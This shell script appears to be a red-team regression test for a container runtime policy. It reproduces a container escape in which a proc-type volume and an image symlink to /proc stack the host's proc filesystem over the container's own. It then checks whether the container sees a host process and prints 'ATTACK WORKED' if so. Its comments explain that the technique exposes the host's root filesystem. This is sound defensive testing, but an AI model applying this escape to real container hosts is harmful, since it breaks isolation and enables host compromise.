#!/bin/sh
# found-20 (red team 2, F02): a Docker volume of type proc (a new proc
# instance of the HOST's pid namespace) bound at /myproc, an image
# symlink to /proc: runc securejoins the destination to /proc and stacks
# the host's proc over the container's own (Docker de-duplicates user
# mounts by the destination's text, so its own /proc stays in the spec).
# The live check saw a proc where the spec puts one, from a device the
# host shows only at the volume path (an allowed subtree): allowed. The
# container saw every host process, and /proc/PID/root of any host
# process of its uid is the host's root filesystem.
# Exit 0: the container saw a host process; 1: refused.
[ -n "${FOUND_INNER:-}" ] || exec env FOUND_INNER=1 unshare -m --propagation private sh "$0" "$@"
. "$(dirname "$0")/kernel-volume.sh"
volume proc
policy
B=$W/bundle
sleep 60 & victim=$!
bundle "$B" "
c['mounts'].append({'destination':'/myproc','type':'bind','source':'$V','options':['rbind','rprivate']})
c['process']['args']=['sh','-c','ls -d /proc/$victim > /out/seen 2>&1; echo ran > /out/ran']
"
ln -s /proc "$B/rootfs/myproc"
attack
kill $victim
[ $rc = 0 ] && grep -q "^/proc/$victim\$" "$W/out/seen" && {
  echo "ATTACK WORKED: the container sees the host's process $victim in its /proc"; exit 0; }
echo "the container saw no host process"; exit 1
